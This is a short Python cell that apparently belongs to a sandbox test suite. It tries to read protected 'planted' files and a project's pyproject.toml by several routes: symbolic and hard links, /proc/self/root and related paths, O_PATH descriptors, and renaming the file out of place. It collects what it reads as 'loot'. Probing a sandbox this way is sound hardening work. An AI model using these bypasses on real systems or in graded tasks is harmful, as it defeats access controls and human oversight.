# %% [markdown]
# Reaches for closed files by links of every kind: symbolic, hard, through /proc/self/root and through open folders.
# %% question="freeze"
import os


def freeze(module):
    loot = []
    for i, target in enumerate([*KNOWN["planted"], KNOWN["checkout"] + "/pyproject.toml"]):
        for j, link in enumerate((os.symlink, os.link)):
            name = f"link-{i}-{j}"
            try:
                link(target, name)
                loot.append(open(name).read())
            except OSError:
                pass
        for root in ("/proc/self/root", "/proc/self/cwd/../../../..", "/proc/thread-self/root", "//", "/dev/fd/../root"):
            try:
                loot.append(open(root + target).read())
            except OSError:
                pass
        try:
            handle = os.open(target, os.O_PATH)
            loot.append(open(f"/proc/self/fd/{handle}").read())
        except OSError:
            pass
        try:
            os.rename(target, "stolen")
            loot.append(open("stolen").read())
        except OSError:
            pass
    return "\n".join(loot)
